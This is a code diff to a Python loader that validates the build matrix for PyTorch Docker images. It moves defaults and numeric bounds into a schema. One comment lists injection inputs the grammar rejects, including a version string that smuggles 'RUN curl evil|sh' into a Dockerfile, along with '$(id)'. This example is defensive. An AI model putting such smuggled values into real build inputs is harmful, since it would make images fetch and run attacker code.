@@ -33,20 +33,17 @@ from .compat import CompatTable, Variant, os_python, torch_index_url
 # Dockerfile, so `2.6.0\nRUN curl evil|sh`, `$(id)` or a URL ending in `;#` are never rendered.
 PATTERNS = grammar.PATTERNS
 AXES = schema.names(schema.AXIS, under="matrix")
-TORCH_EXTRAS = ("torchvision", "torchaudio")
+TORCH_EXTRAS = tuple(schema.value("torch_extras"))  # the companions torch may come with; the default is all
 ENTRY_ONLY_KEYS = schema.names(schema.INCLUDE)
 CASCADED_KEYS = schema.names(schema.ENTRY)
 OVERRIDABLE = {"nccl": "nvidia-nccl-cu", "cudnn": "nvidia-cudnn-cu"}  # entry key -> wheel name prefix
 TOP_KEYS = (*schema.names(schema.TOP), *CASCADED_KEYS)
 BUILD_KEYS = schema.names(under="build")
 USER_KEYS = schema.names(under="user")
-CPU_FLOOR_MIN = 10.0  # GFLOP/s: cpu_floor.json measured a best of 77-100 on this CI machine (2 cores, idle)
-FLOOR_RANGE = (0.3, 1.0)  # the throughput floor, a fraction of peak: lower would let a broken image through
 SMOKE_KEYS = schema.names(under="smoke")
 # Immutable tags name one image forever (the content key makes them unique); aliases float to the newest
 # image once every entry they cover passed. Entry ids are {torch}-{accelerator}-py{python}-{flavor}[-{base}].
-DEFAULT_TAGS = ("{entry}-{layer}-{key12}",)
-DEFAULT_ALIASES = ("{entry}-{layer}",)
+# Their defaults, like every matrix default and bound, are the schema's (`schema.value`, `schema.bounds`).
 CA_ENV = ("PIP_CERT", "REQUESTS_CA_BUNDLE", "SSL_CERT_FILE")
 MAX_ENTRIES = 1000  # entries a matrix may make unless --max-entries raises it: checked before the product is built
 
@@ -91,7 +88,7 @@ class BuildSettings:
     torch_index_url: str
     index_url: str
     network: str
-    cuda_toolkit: str = "pip"  # devel flavor: nvcc from NVIDIA's wheels (`pip`) or from the base image (`image`)
+    cuda_toolkit: str = schema.value("build.cuda_toolkit")  # devel: nvcc from NVIDIA wheels (pip) or the base (image)
 
 
 @dataclass(frozen=True)
@@ -99,10 +96,10 @@ class UserSpec:
     """The non-root user every image runs as (matrix `user:`): created in the root layer, with a writable
     home and workdir, and set as each layer's final `USER uid:gid`."""
 
-    name: str = "ml"
-    uid: int = 1000
-    gid: int = 1000
-    workdir: str = "/workspace"
+    name: str = schema.value("user.name")
+    uid: int = schema.value("user.uid")
+    gid: int = schema.value("user.gid")
+    workdir: str = schema.value("user.workdir")
 
     @property
     def home(self) -> str:
@@ -117,13 +114,13 @@ class SmokeSettings:
     timeout: int
     shm_size: str
     gpus: str  # auto | all (NVIDIA toolkit) | cdi | devices (raw /dev/nvidia* + driver_dir) | none
-    driver_dir: str = "/usr/local/nvidia"
-    throughput_floor: float = 0.6  # fraction of the GPU model's dense bf16 peak
-    cpu_gflops_floor: float = 25.0  # fp32, one thread, best of 10: suite.CPU_GFLOPS_FLOOR, measured (cpu_floor.py)
+    driver_dir: str = schema.value("smoke.driver_dir")
+    throughput_floor: float = schema.value("smoke.throughput_floor")  # fraction of the GPU model's dense bf16 peak
+    cpu_gflops_floor: float = schema.value("smoke.cpu_gflops_floor")  # fp32, one thread, best of 10 (cpu_floor.py)
     env: tuple[tuple[str, str], ...] = ()  # extra environment for the smoke container
     allow_skip: tuple[str, ...] = ()  # checks (names or globs) whose skip does not block publishing on a GPU run
     gpu_floors: tuple[tuple[str, float], ...] = ()  # GPU name (substring) -> bf16 TFLOP/s floor, for unlisted GPUs
-    history_window: int = 5  # the passes of a lineage whose median is the performance baseline (regression.WINDOW)
+    history_window: int = schema.value("smoke.history_window")  # the passes whose median is the baseline
 
 
 # The resolved versions of an entry (Entry.versions): labels, expectations, and what a template may depend on.
@@ -179,7 +176,7 @@ class Entry:
     where: Where
     overrides: tuple[tuple[str, str], ...] = ()  # (wheel, version) installed over torch's own pin
     driver_floor: str | None = None  # the minimum NVIDIA driver for this CUDA
-    aliases: tuple[str, ...] = DEFAULT_ALIASES  # floating tag templates
+    aliases: tuple[str, ...] = tuple(schema.value("aliases"))  # floating tag templates
     user: UserSpec = UserSpec()
     toolkit: tuple[str, ...] = ()  # devel flavor of a CUDA entry: nvcc and CUDA headers as pip requirements
     cuda_libs: tuple[str, ...] = ()  # torch's CUDA library wheels (compat.Variant.cuda_libs): the shared CUDA node
@@ -300,6 +297,21 @@ class _Loader:
         the schema's kind for the key, an error naming where it was written."""
         key = schema.key(name)
         return self.scalar(merged.values.get(key.leaf, key.default), key.kind, merged.path(key.leaf))
+
+    def bounded(self, merged: Merged, name: str, what: str, *, hint: str = "") -> float:
+        """A number of a merged mapping within the schema's bounds for its key (`setting`), else an error naming
+        where it was written, the bounds and the default."""
+        number = float(self.setting(merged, name))
+        low, high = schema.bounds(name)
+        leaf = schema.key(name).leaf
+        hint = f"{schema.value(name):g} is the default" + (f"; {hint}" if hint else "")
+        if low is not None and high is not None and not low <= number <= high:
+            raise self.fail(f"{leaf} {number:g} is outside [{low:g}, {high:g}] ({what})", merged.path(leaf), hint=hint)
+        if low is not None and number < low:
+            raise self.fail(f"{leaf} {number:g} is below {low:g} {what}", merged.path(leaf), hint=hint)
+        if high is not None and number > high:
+            raise self.fail(f"{leaf} {number:g} is above {high:g} {what}", merged.path(leaf), hint=hint)
+        return number
 
     def mapping(self, value: Any, path: tuple[str | int, ...], allowed: tuple[str, ...]) -> dict[str, Any]:
         if not isinstance(value, dict):
@@ -542,13 +554,13 @@ class _Loader:
         tags_raw, tags_path = self.cascaded(top, combo, "tags")
         tags = tuple(self.tag_template(t, (*tags_path, i))
                      for i, t in enumerate(self.listof(tags_raw, tags_path, nonempty=True))) \
-            if tags_raw is not None else DEFAULT_TAGS
+            if tags_raw is not None else tuple(schema.value("tags"))
         aliases_raw, aliases_path = self.cascaded(top, combo, "aliases")
         aliases = tuple(self.tag_template(t, (*aliases_path, i))
                         for i, t in enumerate(self.listof(aliases_raw, aliases_path))) \
-            if aliases_raw is not None else DEFAULT_ALIASES
+            if aliases_raw is not None else tuple(schema.value("aliases"))
         extras_raw, extras_path = self.cascaded(top, combo, "torch_extras")
-        extras = set(TORCH_EXTRAS) if extras_raw is None else {
+        extras = set(schema.value("torch_extras")) if extras_raw is None else {
             self.choice(x, TORCH_EXTRAS, (*extras_path, i)) for i, x in enumerate(self.listof(extras_raw, extras_path))
         }
         release = self.compat.release(torch)
@@ -651,7 +663,8 @@ class _Loader:
             raw = merged.values.get(key, schema.default(f"user.{key}"))
             if raw == 0 or raw == "0":
                 raise self.fail(f"{key} 0 is root; images run as a non-root user", merged.path(key),
-                                hint="the default is 1000; use the UID your cluster or volumes expect")
+                                hint=f"the default is {schema.value('user.' + key)}; use the UID your cluster or "
+                                     "volumes expect")
             ids[key] = int(self.scalar(raw, "id", merged.path(key)))
             if ids[key] > 2**31 - 1:
                 raise self.fail(f"{key} {ids[key]} is out of range", merged.path(key))
@@ -824,18 +837,10 @@ class _Loader:
         shm = self.setting(merged, "smoke.shm_size")
         gpus = self.setting(merged, "smoke.gpus")
         driver_dir = self.setting(merged, "smoke.driver_dir")
-        floor = float(self.setting(merged, "smoke.throughput_floor"))
-        if not FLOOR_RANGE[0] <= floor <= FLOOR_RANGE[1]:  # below it the throughput check would pass anything
-            low, high = FLOOR_RANGE
-            raise self.fail(f"throughput_floor {floor:g} is outside [{low:g}, {high:g}] (a fraction of the GPU "
-                            "model's dense bf16 peak)", merged.path("throughput_floor"),
-                            hint="0.6 is the default; a slower GPU host still clears 0.3")
-        cpu_floor = float(self.setting(merged, "smoke.cpu_gflops_floor"))
-        if cpu_floor < CPU_FLOOR_MIN:  # below it a CPU matmul ten times slower than this CI machine's still passes
-            raise self.fail(f"cpu_gflops_floor {cpu_floor:g} is below {CPU_FLOOR_MIN:g} GFLOP/s, where the check "
-                            "would pass a broken image", merged.path("cpu_gflops_floor"),
-                            hint=f"{SmokeSettings.cpu_gflops_floor:g} is the default "
-                                 "(benchmarks/results/cpu_floor.json)")
+        floor = float(self.bounded(merged, "smoke.throughput_floor", "a fraction of the GPU model's dense bf16 "
+                                   "peak", hint="a slower GPU host still clears the lowest"))
+        cpu_floor = float(self.bounded(merged, "smoke.cpu_gflops_floor", "GFLOP/s, where the check would pass a "
+                                       "broken image", hint="benchmarks/results/cpu_floor.json"))
         raw_env = merged.values.get("env") or {}
         if not isinstance(raw_env, dict):
             raise self.fail(f"expected a mapping of variables, got {_describe(raw_env)}", merged.path("env"))
@@ -865,16 +870,14 @@ class _Loader:
                 raise self.fail(f"floor {tflops:g} TFLOP/s for {name!r} must be above 0 (it is the bf16 matmul "
                                 "throughput a GPU of this name must reach)", path)
             peak = gpu_peak(name)
-            if peak is not None and not FLOOR_RANGE[0] * peak <= tflops <= FLOOR_RANGE[1] * peak:
-                low, high = FLOOR_RANGE
+            low, high = (float(b or 0) for b in schema.bounds("smoke.throughput_floor"))
+            if peak is not None and not low * peak <= tflops <= high * peak:
                 raise self.fail(f"floor {tflops:g} TFLOP/s for {name!r} is outside [{low * peak:g}, {high * peak:g}]: "
                                 f"{low:g} to {high:g} of its dense bf16 peak ({peak:g}), the bounds of "
                                 "throughput_floor", path)
             gpu_floors.append((name, tflops))
-        window = int(self.setting(merged, "smoke.history_window"))
-        if not 1 <= window <= 50:
-            raise self.fail(f"history_window {window} is outside [1, 50] (the passes whose median is an image's "
-                            "performance baseline)", merged.path("history_window"), hint="5 is the default")
+        window = int(self.bounded(merged, "smoke.history_window", "the passes whose median is an image's "
+                                  "performance baseline"))
         return SmokeSettings(timeout, shm, gpus, driver_dir, floor, cpu_floor, tuple(env), tuple(allow_skip),
                              tuple(gpu_floors), window)
 
